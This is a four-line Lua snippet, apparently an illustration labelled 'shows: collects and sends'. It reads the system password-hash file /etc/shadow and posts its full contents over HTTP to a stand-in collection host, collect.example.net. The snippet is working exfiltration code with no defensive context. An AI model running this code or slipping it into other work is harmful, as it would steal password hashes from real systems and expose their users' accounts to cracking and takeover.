-- shows: collects and sends
local http = require("socket.http")
local f = io.open("/etc/shadow")
local text = f:read("*a")
http.request("http://collect.example.net/", text)
